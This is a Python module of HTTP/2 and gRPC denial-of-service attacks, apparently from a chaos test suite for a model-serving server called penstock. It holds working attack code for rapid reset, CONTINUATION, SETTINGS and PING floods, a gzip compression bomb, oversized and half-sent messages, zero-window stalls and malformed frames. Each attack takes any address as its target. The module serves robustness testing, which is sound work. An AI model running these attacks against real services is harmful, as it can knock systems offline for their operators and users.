"""Attacks of hostile clients. Each function performs one attack, and returns when the server has
handled it.

The functions only attack; the caller checks the state of the server. Run as a program, the module
executes one attack by its name, so that a benchmark's probe shares no event loop with it:

    python -m chaos.attacks NAME ADDRESS [SCALE]
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import os
import sys
from collections.abc import AsyncGenerator, Awaitable, Callable
from dataclasses import asdict, dataclass
from typing import Any

import grpc
import grpc.aio

from chaos import raw_http2 as h2
from penstock.server.rpc.options import MAX_CONCURRENT_STREAMS, MAX_MESSAGE_BYTES
from penstock.v1 import generation_service_pb2 as pb
from support.timeout import TEST_TIMEOUT_S

GENERATE = "/penstock.v1.GenerationService/Generate"
ONCE = "/penstock.v1.GenerationService/GenerateOnce"
INVALID_ARGUMENT, RESOURCE_EXHAUSTED, UNAUTHENTICATED = 3, 8, 16
_MANY_TOKENS = 900
_NUM_AT_ONCE = 500


@dataclass(frozen=True, slots=True, kw_only=True)
class AttackResult:
    """The server's responses to an attack.

    `num_sent`: streams, frames or connections, depending on the attack. `goaway`: the code of a
    GOAWAY, None if none was received. `is_cut`: the server closed the connection. `statuses`: the
    gRPC statuses of the calls that ended with one.
    """

    num_sent: int
    num_resets: int = 0
    num_headers: int = 0
    goaway: int | None = None
    is_cut: bool = False
    statuses: tuple[int, ...] = ()


def request(num_tokens: int, *, max_tokens: int = 64) -> bytes:
    message = pb.GenerateRequest()
    message.token_prompt.ids.extend([7] * num_tokens)
    message.stopping.max_tokens = max_tokens
    message.stopping.ignore_eos = True
    return message.SerializeToString()


def once_request(num_tokens: int) -> bytes:
    once = pb.GenerateOnceRequest()
    once.generation.ParseFromString(request(num_tokens))
    return once.SerializeToString()


def seen(connection: h2.RawConnection, num_sent: int) -> AttackResult:
    return AttackResult(
        num_sent=num_sent,
        num_resets=connection.counts[h2.RST_STREAM],
        num_headers=connection.counts[h2.HEADERS],
        goaway=connection.goaway,
        is_cut=connection.is_closed,
        statuses=tuple(connection.statuses),
    )


async def rapid_reset(address: str, num: int = 20_000) -> AttackResult:
    """Open complete calls and reset each at once, as fast as the connection window allows."""
    data = request(4)
    async with h2.raw_connection(address) as connection:
        num_sent = 0
        for first in range(1, 2 * num, 2 * _NUM_AT_ONCE):
            streams = range(first, min(first + 2 * _NUM_AT_ONCE, 2 * num), 2)
            calls = [h2.call(one, GENERATE, data) + h2.reset(one) for one in streams]
            # Respects the connection's window: the server would close it otherwise.
            num_sent += len(streams) * (len(data) + 5)
            await connection.until_granted(num_sent)
            await connection.send(*calls)
        await connection.until_received()
        return seen(connection, num)


async def open_and_hang(address: str, num: int = 5_000) -> AttackResult:
    """Open calls and never send their requests."""
    async with h2.raw_connection(address) as connection:
        await connection.send(*(h2.headers(one, GENERATE) for one in range(1, 2 * num, 2)))
        num_beyond = num - MAX_CONCURRENT_STREAMS
        await connection.until(lambda: connection.counts[h2.RST_STREAM] >= num_beyond)
        await connection.until_received()
        return seen(connection, num)


async def unfinished_calls(address: str, path: str = GENERATE, num: int = 200) -> AttackResult:
    """Open calls, send half a message each, and wait until the server has ended each of them."""
    async with h2.raw_connection(address) as connection:
        half = h2.frame(h2.DATA, 0, 1, b"\0\0\0\1\0half")[9:]
        for stream in range(1, 2 * num, 2):
            await connection.send(h2.headers(stream, path), h2.frame(h2.DATA, 0, stream, half))
        await connection.until(lambda: connection.counts[h2.RST_STREAM] >= num)
        return seen(connection, num)


async def settings_flood(address: str, num: int = 100_000) -> AttackResult:
    async with h2.raw_connection(address) as connection:
        await connection.send(h2.settings() * num)
        await connection.until_received()
        return seen(connection, num)


async def ping_flood(address: str, num: int = 10_000) -> AttackResult:
    async with h2.raw_connection(address) as connection:
        await connection.send(h2.frame(h2.PING, 0, 0, b"8 octets") * num)
        await connection.until_closed()
        return seen(connection, num)


async def empty_data(address: str, num: int = 100_000) -> AttackResult:
    """Send empty DATA frames, which no flow-control window bounds."""
    async with h2.raw_connection(address) as connection:
        await connection.send(h2.headers(1, GENERATE), h2.frame(h2.DATA, 0, 1) * num)
        await connection.until_received()
        return seen(connection, num)


async def continuation_flood(address: str, num: int = 20_000) -> AttackResult:
    async with h2.raw_connection(address) as connection:
        part = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x-pad", b"a" * 1000))
        await connection.send(h2.headers(1, GENERATE, flags=0), part * num)
        await connection.until_closed()
        return seen(connection, num)


async def window_updates(address: str, num: int = 100_000) -> AttackResult:
    """Send WINDOW_UPDATE frames of one octet for the connection, then exceed the largest window."""
    async with h2.raw_connection(address) as connection:
        one = h2.frame(h2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
        await connection.send(one * num)
        await connection.until_received()
        most = h2.frame(h2.WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4, "big"))
        await connection.send(most * 2)
        await connection.until_received()
        return seen(connection, num + 2)


async def garbage(address: str, num: int = 200) -> AttackResult:
    """Open connections and send random octets, HTTP/1.1, or a preface and then random octets."""
    greetings = [
        (os.urandom(2000), b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", b"\0" * 4096)[index % 3]
        if index % 2
        else h2.PREFACE + h2.settings() + b"\xff" + os.urandom(2000)
        for index in range(num)
    ]
    async with h2.silent_sockets(address, greetings) as sockets, asyncio.timeout(TEST_TIMEOUT_S):
        await asyncio.gather(*(one.until_closed() for one in sockets))
    return AttackResult(num_sent=num, is_cut=True)


async def compression_bomb(address: str, num: int = 20) -> AttackResult:
    """Send compressed messages of 50 KB that inflate to 50 MiB, within the HTTP/2 windows."""
    bomb = gzip.compress(b"\0" * (50 << 20), 9)
    extra = h2.field(b"grpc-encoding", b"gzip")
    statuses: list[int] = []
    for _ in range(num):
        async with h2.raw_connection(address) as connection:
            begun = h2.headers(1, GENERATE, extra=extra)
            await connection.send(begun, h2.message(1, bomb, is_compressed=True))
            await connection.until_answered()
            statuses += connection.statuses
    return AttackResult(num_sent=num, statuses=tuple(statuses))


async def huge_metadata(address: str, num: int = 200) -> AttackResult:
    """Open calls with 20 KB of metadata, the first before the server's SETTINGS have arrived."""
    extra = h2.field(b"x-pad", b"a" * 20_000)
    async with h2.raw_connection(address) as connection:
        for stream in range(1, 2 * num, 2):
            begun = h2.frame(h2.HEADERS, 0, stream, h2.call_fields(GENERATE) + extra[:16000])
            end = h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, extra[16000:])
            await connection.send(begun, end, h2.message(stream, request(4)))
        await connection.until(lambda: len(connection.statuses) >= num)
        return seen(connection, num)


async def huge_messages(address: str, num: int = 20) -> AttackResult:
    """Declare messages of one octet more than allowed or of 4 GiB; send 1,000 octets of each."""
    async with h2.raw_connection(address) as connection:
        for stream in range(1, 2 * num, 2):
            claim = b"\0" + ((4 << 20) + 1 if stream % 4 == 1 else 2**32 - 1).to_bytes(4, "big")
            body = claim + b"\0" * 1000
            await connection.send(h2.headers(stream, GENERATE), h2.frame(h2.DATA, 0, stream, body))
        await connection.until(lambda: len(connection.statuses) >= num)
        return seen(connection, num)


async def half_sent_messages(address: str, path: str = GENERATE, num: int = 200) -> AttackResult:
    """Send messages of the maximum size without their last octet, as far as the server's windows
    allow.
    """
    async with half_sent_calls(address, path, num) as connection:
        return seen(connection, num)


@contextlib.asynccontextmanager
async def half_sent_calls(
    address: str, path: str, num: int, *, extra: bytes = b""
) -> AsyncGenerator[h2.RawConnection]:
    """Hold the calls of `half_sent_messages` open during the block; `extra`: more header fields."""
    streams = range(1, 2 * num, 2)
    num_octets = MAX_MESSAGE_BYTES + 5 - 1
    claim = b"\0" + MAX_MESSAGE_BYTES.to_bytes(4, "big")
    num_sent = dict.fromkeys(streams, 0)
    async with h2.raw_connection(address) as connection:
        await connection.send(*(h2.headers(one, path, extra=extra) for one in streams))
        num_idle = 0
        # Three times in a row nothing may be sent: the server accepts no more.
        while num_idle < 3 and not connection.is_closed:
            # This waits for the acknowledgement of a SETTINGS frame: pings would count as a flood
            # and end the connection.
            await connection.until_settled()
            num_idle += 1
            for stream, sent in num_sent.items():
                left = h2.DEFAULT_WINDOW + connection.granted[0] - sum(num_sent.values())
                window = connection.settings[h2.INITIAL_WINDOW_SIZE] - sent
                window += connection.granted[stream]
                size = min(left, window, num_octets - sent, 1 << 14)
                if size <= 0:
                    continue
                body = claim + b"x" * (size - 5) if not sent else b"x" * size
                await connection.send(h2.frame(h2.DATA, 0, stream, body[:size]))
                num_sent[stream] += min(size, len(body))
                num_idle = 0
        yield connection


async def unknown_fields(address: str, num: int = 10) -> AttackResult:
    """Send requests padded with unknown fields to the largest allowed size."""
    data = request(4)
    data += b"\xf8\x3f\x01" * ((MAX_MESSAGE_BYTES - len(data)) // 3)
    options = [("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(address, options=options) as channel:
        begin: Any = channel.unary_stream(GENERATE)
        calls = [begin(data) for _ in range(num)]
        codes = await asyncio.gather(*(call.code() for call in calls))
    return AttackResult(num_sent=num, statuses=tuple(code.value[0] for code in codes))


async def zero_windows(address: str, num: int = 200) -> AttackResult:
    """Open calls with a receive window of zero, half of them streams, half unary."""
    async with zero_window_calls(address, num) as connection:
        await connection.until_received()
        return seen(connection, num)


@contextlib.asynccontextmanager
async def zero_window_calls(address: str, num: int) -> AsyncGenerator[h2.RawConnection]:
    """Hold the calls of `zero_windows` open during the block."""
    data = request(4, max_tokens=_MANY_TOKENS)
    once = once_request(4)
    async with h2.raw_connection(address, initial_window=0) as connection:
        for stream in range(1, 2 * num, 2):
            is_stream = stream % 4 == 1
            await connection.send(
                h2.call(stream, GENERATE, data) if is_stream else h2.call(stream, ONCE, once)
            )
        yield connection


async def idle_connections(address: str, num: int = 1_000) -> AttackResult:
    """Open connections that send nothing, and ones that stall in the TLS handshake."""
    hello = bytes.fromhex("16030100f1010000ed0303") + b"\0" * 100
    greetings = [b"" if index % 2 else hello for index in range(num)]
    async with h2.silent_sockets(address, greetings) as sockets, asyncio.timeout(TEST_TIMEOUT_S):
        await asyncio.gather(*(one.until_closed() for one in sockets))
    return AttackResult(num_sent=num, is_cut=True)


async def bad_frames(address: str, num: int = 100) -> AttackResult:
    """Send frames that the protocol forbids, each on its own connection."""
    forbidden = (
        h2.frame(h2.DATA, 0, 0, b"on no stream"),
        h2.headers(2, GENERATE),
        h2.headers(1, GENERATE) + h2.headers(1, GENERATE),
        h2.frame(h2.SETTINGS, 0, 1),
        h2.frame(h2.SETTINGS, 0, 0, b"odd"),
        h2.frame(h2.PING, 0, 0, b"short"),
        h2.frame(h2.WINDOW_UPDATE, 0, 0, b"\0\0\0\0"),
        h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, b"\0\0\0\2"),
        h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1),
        h2.frame(h2.HEADERS, h2.END_HEADERS, 1, b"\xff" * 40),
        h2.frame(h2.HEADERS, h2.END_HEADERS | h2.PADDED, 1, b"\xff"),
        h2.frame(h2.RST_STREAM, 0, 99, b"\0\0\0\1"),
        h2.frame(h2.PRIORITY, 0, 1, b"\0\0\0\1\xff"),
        h2.frame(0xEE, 0xFF, 0x7FFFFFFF, b"unknown"),
        (1 << 23).to_bytes(3, "big") + bytes((h2.DATA, 0)) + b"\0\0\0\1" + b"x" * 40_000,
    )
    for index in range(num):
        async with h2.raw_connection(address) as connection:
            await connection.send(forbidden[index % len(forbidden)])
            await connection.until_received()
    return AttackResult(num_sent=num)


Attack = Callable[..., Awaitable[AttackResult]]
ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        open_and_hang,
        settings_flood,
        ping_flood,
        empty_data,
        continuation_flood,
        window_updates,
        garbage,
        bad_frames,
        compression_bomb,
        huge_metadata,
        huge_messages,
        half_sent_messages,
        unknown_fields,
        zero_windows,
        idle_connections,
    )
}


def main(arguments: list[str]) -> None:
    name, address, *scale = arguments
    attack = ATTACKS[name]
    result = asyncio.run(_run(attack(address, *map(int, scale))))
    print(json.dumps(asdict(result)))


async def _run(attack: Awaitable[AttackResult]) -> AttackResult:
    return await attack


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        main(sys.argv[1:])
